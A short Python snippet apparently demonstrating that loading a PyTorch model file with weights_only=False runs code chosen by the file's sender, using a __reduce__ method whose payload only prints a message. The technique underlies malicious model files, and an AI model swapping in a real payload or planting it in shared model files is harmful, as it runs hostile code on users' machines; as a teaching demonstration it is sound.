import torch


class Gift:
    def __reduce__(self):
        return print, ("any code that the sender chose runs now",)


torch.save(Gift(), "net.pt")
torch.load("net.pt", weights_only=False)
#> any code that the sender chose runs now
